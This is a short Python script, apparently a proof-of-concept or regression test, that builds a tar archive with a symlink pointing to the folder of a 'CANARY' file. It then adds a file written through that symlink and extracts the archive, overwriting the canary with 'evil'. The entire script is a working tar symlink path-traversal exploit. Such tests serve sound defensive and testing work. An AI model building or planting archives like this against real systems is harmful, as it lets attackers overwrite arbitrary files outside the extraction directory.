import io
import os
import tarfile

folder, name = os.path.split(os.environ["CANARY"])
buffer = io.BytesIO()
with tarfile.open(fileobj=buffer, mode="w") as t:
    link = tarfile.TarInfo("d")
    link.type, link.linkname = tarfile.SYMTYPE, folder
    t.addfile(link)
    item = tarfile.TarInfo("d/" + name)
    item.size = 4
    t.addfile(item, io.BytesIO(b"evil"))
buffer.seek(0)
with tarfile.open(fileobj=buffer) as t:
    t.extractall(".")
